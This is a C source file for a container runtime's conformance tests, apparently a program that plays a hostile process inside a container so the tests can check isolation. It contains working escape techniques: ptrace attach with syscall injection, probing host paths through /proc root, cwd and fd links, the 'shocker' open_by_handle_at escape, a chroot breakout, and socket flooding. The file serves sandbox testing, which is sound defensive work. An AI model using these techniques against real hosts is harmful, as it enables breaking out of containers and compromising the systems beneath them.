/* SPDX-License-Identifier: MPL-2.0
 *
 * What a hostile program does inside a container.  Static, one file, copied into
 * the container's root by the attack tests (test/conformance/escape_test.go).
 *
 *	attack steal NAME SECONDS	attach to every process that appears and look for the
 *					host's file NAME through its descriptors, root and directory
 *	attack calls			the errno of system calls that a container must not have
 *	attack identity [FILE]		/proc/self/status and the like, to compare task and exec
 *	attack shocker NAME		open a file by its handle
 *	attack flood PATH COUNT		datagrams to a socket, bytes to a file
 *	attack chroot NAME		the classic way out of a chroot
 *	attack signal NAME NUMBER	a signal to every process called NAME
 *
 * It prints ESCAPED and how when an attack works. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int escaped(const char *how, int pid, const char *what)
{
	printf("ESCAPED: %s (pid %d): %s\n", how, pid, what);
	fflush(stdout);
	return 1;
}

/* ---- steal ---- */

static int reads_canary(const char *directory, const char *name)
{
	char path[PATH_MAX], up[64] = "";
	struct stat st;

	for (int depth = 0; depth < 8; depth++) {
		snprintf(path, sizeof(path), "%.2000s/%s%.200s", directory, up, name);
		if (stat(path, &st) == 0)
			return 1;
		strcat(up, "../");
	}
	return 0;
}

static int look_into(int pid, const char *name)
{
	static const char *const links[] = { "root", "cwd" };
	char path[PATH_MAX];
	int found = 0;
	DIR *dir;

	for (size_t i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, links[i]);
		if (reads_canary(path, name))
			found += escaped("a process led to the host", pid, path);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	for (struct dirent *e; dir && (e = readdir(dir));) {
		char fd[PATH_MAX];

		snprintf(fd, sizeof(fd), "/proc/%d/fd/%s", pid, e->d_name);
		if (*e->d_name != '.' && reads_canary(fd, name))
			found += escaped("a descriptor led to the host", pid, fd);
	}
	if (dir)
		closedir(dir);
	return found;
}

#ifdef __x86_64__
/* Runs it to its next stop in a system call and says what it finds there; false when it stopped elsewhere. */
static bool next_call_stop(int pid, unsigned op, struct __ptrace_syscall_info *ret)
{
	int status;

	return ptrace(PTRACE_SYSCALL, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
	       ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(*ret), ret) > 0 && ret->op == op;
}

/* Has the process that we hold look for the host's file itself, with its descriptors. It stands at a system call,
 * or is left alone: there is no instruction to borrow elsewhere. A call that was cut off (ERESTARTSYS and its like)
 * is made anew in the end, so that the process does not notice. */
static int inject(int pid, const char *name)
{
	struct __ptrace_syscall_info info;
	struct user_regs_struct saved, regs;
	char path[256] = "";
	int found = 0;

	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0 ||
	    (ptrace(PTRACE_PEEKTEXT, pid, (void *)(saved.rip - 2), 0) & 0xffff) != 0x050f) /* syscall */
		return 0;
	snprintf(path, sizeof(path), "%s", name);
	for (size_t i = 0; i < sizeof(path); i += sizeof(long)) {
		long word;

		memcpy(&word, path + i, sizeof(word));
		ptrace(PTRACE_POKEDATA, pid, (void *)(saved.rsp - 1024 + i), (void *)word);
	}
	for (int fd = 0; fd < 16; fd++) {
		regs = saved;
		regs.rip -= 2;
		regs.orig_rax = (unsigned long long)-1;
		regs.rax = SYS_faccessat;
		regs.rdi = (unsigned long long)fd;
		regs.rsi = saved.rsp - 1024;
		regs.rdx = F_OK;
		if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 ||
		    !next_call_stop(pid, PTRACE_SYSCALL_INFO_ENTRY, &info) || info.entry.nr != SYS_faccessat ||
		    !next_call_stop(pid, PTRACE_SYSCALL_INFO_EXIT, &info))
			break;
		if (info.exit.rval == 0)
			found += escaped("a process that was attached to opened the host's file", pid, name);
	}
	regs = saved;
	if ((long)saved.rax <= -512 && (long)saved.rax >= -516) {
		regs.rip -= 2;
		regs.rax = saved.orig_rax;
	}
	regs.orig_rax = (unsigned long long)-1;
	ptrace(PTRACE_SETREGS, pid, 0, &regs);
	return found;
}
#else
static int inject(int pid, const char *name)
{
	(void)pid;
	(void)name;
	return 0;
}
#endif

/* Hold it, so that it cannot get away before it is looked into. */
static int seize(int pid, const char *name)
{
	int found, status;

	if (pid == 1 || ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0)
		return look_into(pid, name);
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return 0; /* it ended */
	found = look_into(pid, name);
	/* Not the first ones: the task itself, which is to live on. */
	if (pid > 3)
		found += inject(pid, name);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return found;
}

static int steal(const char *name, int seconds)
{
	static char seen[1 << 16];
	time_t until = time(NULL) + seconds;
	int found = 0;

	for (;;) {
		DIR *proc = opendir("/proc");

		if (time(NULL) > until)
			break;
		for (struct dirent *e; proc && (e = readdir(proc));) {
			int pid = atoi(e->d_name);

			if (pid <= 0 || pid == getpid() || seen[pid & 0xffff])
				continue;
			found += seize(pid, name);
			if (pid > 3 && found)
				seen[pid & 0xffff] = 1;
		}
		if (proc)
			closedir(proc);
	}
	puts(found ? "stolen" : "nothing");
	return 0;
}

/* ---- calls ---- */

#define CALL(name, ...)                                                                                                \
	do {                                                                                                           \
		long r_ = (errno = 0, syscall(__VA_ARGS__));                                                           \
		printf("%s %s\n", name, r_ < 0 ? strerrorname_np(errno) : "done");                                     \
	} while (0)

static int calls(void)
{
	char attr[128] = { 0 };

	CALL("mount", SYS_mount, "none", "/tmp", "nosuchfs", 0, NULL);
	CALL("keyctl", SYS_keyctl, 0, -3, 0, 0, 0);
	CALL("add_key", SYS_add_key, "user", "nomad-attack", "x", 1, -3);
	CALL("open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, NULL, 0);
	CALL("perf_event_open", SYS_perf_event_open, attr, 0, -1, -1, 0);
	CALL("bpf", SYS_bpf, 0, attr, sizeof(attr));
	CALL("userfaultfd", SYS_userfaultfd, 0);
	CALL("io_uring_setup", SYS_io_uring_setup, 0, attr);
	CALL("init_module", SYS_init_module, NULL, 0, "");
	CALL("finit_module", SYS_finit_module, -1, "", 0);
	CALL("kexec_load", SYS_kexec_load, 0, 0, NULL, 0);
	CALL("iopl", SYS_iopl, 3);
	CALL("ioperm", SYS_ioperm, 0, 1, 1);
	CALL("swapon", SYS_swapon, "/nowhere", 0);
	CALL("reboot", SYS_reboot, 0, 0, 0, NULL);
	CALL("settimeofday", SYS_settimeofday, NULL, attr);
	CALL("syslog", SYS_syslog, 3, attr, sizeof(attr));
	CALL("acct", SYS_acct, "/nowhere");
	CALL("quotactl", SYS_quotactl, 0, NULL, 0, NULL);
	CALL("lookup_dcookie", 212, 0, NULL, 0);
	CALL("process_vm_readv", SYS_process_vm_readv, 1, NULL, 0, NULL, 0, 0);
	CALL("kcmp", SYS_kcmp, 1, 1, 0, 0, 0);
	CALL("personality", SYS_personality, 0x0008);
	CALL("unshare user", SYS_unshare, CLONE_NEWUSER);
	return 0;
}

/* ---- identity ---- */

/* Without the lines that begin with one of `but`. */
static void print_file(const char *path, const char *const *but)
{
	char line[4096];
	FILE *file = fopen(path, "re");

	while (file && fgets(line, sizeof(line), file)) {
		int wanted = 1;

		for (const char *const *k = but; k && *k; k++)
			wanted = wanted && strncmp(line, *k, strlen(*k)) != 0;
		if (wanted)
			printf("%s: %s%s", path, line, strchr(line, '\n') ? "" : "\n");
	}
	if (file)
		fclose(file);
}

static int identity(void)
{
	/* Whose number it is, and how much it has used. */
	static const char *const own[] = {
		"Pid:", "PPid:",   "Tgid:", "NSpid:",	"NSpgid:", "NSsid:",	"NStgid:",	"FDSize:", "Vm",
		"Rss",	"Hugetlb", "SigQ:", "Threads:", "State:",  "voluntary", "nonvoluntary", NULL
	};
	static const char *const ns[] = { "cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts" };
	char path[64], target[PATH_MAX];
	ssize_t n;

	print_file("/proc/self/status", own);
	print_file("/proc/self/limits", NULL);
	print_file("/proc/self/cgroup", NULL);
	print_file("/proc/self/oom_score_adj", NULL);
	print_file("/proc/self/attr/current", NULL);
	print_file("/proc/self/keys", NULL);
	for (size_t i = 0; i < sizeof(ns) / sizeof(ns[0]); i++) {
		snprintf(path, sizeof(path), "/proc/self/ns/%s", ns[i]);
		n = readlink(path, target, sizeof(target) - 1);
		printf("%s: %.*s\n", path, n > 0 ? (int)n : 0, target);
	}
	printf("keyring: %ld\n", syscall(SYS_keyctl, 0, -3, 0));
	printf("dumpable: %d\n", prctl(PR_GET_DUMPABLE));
	printf("nice: %d\n", getpriority(PRIO_PROCESS, 0));
	printf("scheduler: %d\n", sched_getscheduler(0));
	n = readlink("/proc/self/cwd", target, sizeof(target) - 1);
	printf("cwd: %.*s\n", n > 0 ? (int)n : 0, target);
	n = readlink("/proc/self/root", target, sizeof(target) - 1);
	printf("root: %.*s\n", n > 0 ? (int)n : 0, target);
	for (int fd = 3; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0) {
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			n = readlink(path, target, sizeof(target) - 1);
			printf("inherited: %d %.*s\n", fd, n > 0 ? (int)n : 0, target);
		}
	for (char **e = environ; *e; e++)
		printf("env: %s\n", *e);
	return 0;
}

/* ---- The others ---- */

/* By the handle of a root directory, on the file system of each mount that may be the host's. */
static int shocker(const char *name)
{
	struct {
		struct file_handle head;
		unsigned char data[8];
	} root = { .head = { .handle_bytes = 8, .handle_type = 1 }, .data = { 2 } };
	static const char *const mounts[] = { "/",	"/run/nomad/init", "/etc/resolv.conf", "/alloc",
					      "/local", "/secrets",	   "/run/host/notify", "/proc/self/fd/1" };
	int found = 0;
	struct stat st;

	for (size_t i = 0; i < sizeof(mounts) / sizeof(mounts[0]); i++) {
		int mount = open(mounts[i], O_RDONLY | O_NONBLOCK), fd = open_by_handle_at(mount, &root.head, O_RDONLY);

		if (fd >= 0 && fstatat(fd, name, &st, 0) == 0)
			found += escaped("a file handle led to the host", getpid(), mounts[i]);
	}
	if (!found)
		puts("refused");
	return 0;
}

static int flood(const char *path, int count)
{
	static char data[65536];
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0), sent = 0;

	memset(data, 'x', sizeof(data));
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	for (int i = 0; i < count; i++) {
		size_t size = i % 2 ? 100 : sizeof(data);

		if (sendto(fd, data, size, 0, (struct sockaddr *)&sa, sizeof(sa)) > 0)
			sent++;
		else if (errno != EAGAIN && errno != EMSGSIZE && errno != ENOBUFS)
			break;
		else
			usleep(10);
	}
	printf("flooded\n");
	return 0;
}

static int leave_chroot(const char *name)
{
	struct stat st;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	(void)mkdir("/jail", 0700);
	if (chroot("/jail") < 0 || fchdir(fd) < 0)
		return puts("refused") < 0;
	for (int i = 0; i < 32; i++)
		if (chdir("..") < 0)
			break;
	return stat(name, &st) == 0 ? escaped("chroot led to the host", getpid(), name) : puts("refused") < 0;
}

static int signal_all(const char *name, int signal)
{
	DIR *proc = opendir("/proc");
	int n = 0;

	for (struct dirent *e; proc && (e = readdir(proc));) {
		char path[64], comm[32] = "";
		int pid = atoi(e->d_name);
		FILE *file;

		if (pid <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/comm", pid);
		file = fopen(path, "re");
		if (file && fgets(comm, sizeof(comm), file) && strncmp(comm, name, strlen(name)) == 0)
			n += kill(pid, signal) == 0;
		if (file)
			fclose(file);
	}
	printf("%d signalled\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	const char *act = argc > 1 ? argv[1] : "";

	if (strcmp(act, "steal") == 0 && argc == 4)
		return steal(argv[2], atoi(argv[3]));
	if (strcmp(act, "calls") == 0)
		return calls();
	if (strcmp(act, "identity") == 0 && (argc < 3 || freopen(argv[2], "we", stdout)))
		return identity();
	if (strcmp(act, "shocker") == 0 && argc == 3)
		return shocker(argv[2]);
	if (strcmp(act, "flood") == 0 && argc == 4)
		return flood(argv[2], atoi(argv[3]));
	if (strcmp(act, "chroot") == 0 && argc == 3)
		return leave_chroot(argv[2]);
	if (strcmp(act, "signal") == 0 && argc == 4)
		return signal_all(argv[2], atoi(argv[3]));
	fprintf(stderr, "attack: unknown attack '%s'\n", act);
	return 64;
}
